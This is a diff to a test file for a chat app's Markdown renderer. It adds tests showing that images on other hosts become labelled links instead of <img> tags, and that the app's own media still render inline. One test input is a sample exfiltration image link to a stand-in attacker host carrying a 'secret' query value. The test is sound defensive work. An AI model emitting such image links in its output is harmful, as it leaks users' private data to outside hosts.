@@ -41,6 +41,22 @@ describe('Markdown', () => {
     expect(html('[x](/ru/chat)')).toBe('<p><a href="/ru/chat">x</a></p>');
   });
 
+  it('shows an image on another host only as a link naming the host, never as an <img>', () => {
+    const out = html('![x](https://attacker.example/?q=secret) ![y](//evil.example/p.png)');
+    expect(out).not.toContain('<img');
+    expect(out).toContain(
+      '<a href="https://attacker.example/?q=secret" target="_blank" rel="noopener noreferrer"',
+    );
+    expect(out).toContain('🖼 изображение: attacker.example (x)');
+    expect(out).toContain('🖼 изображение: evil.example (y)');
+  });
+
+  it('shows our own media inline', () => {
+    const out = html('![a](/api/v1/files/1/content) ![b](data:image/png;base64,AAAA)');
+    expect(out).toContain('<img src="/api/v1/files/1/content" alt="a" loading="lazy"/>');
+    expect(out).toContain('<img src="data:image/png;base64,AAAA" alt="b" loading="lazy"/>');
+  });
+
   it('renders code blocks with their language and a copy button', () => {
     const out = html('```ts\nconst a = "<b>";\n```');
     expect(out).toContain('data-testid="code-copy"');
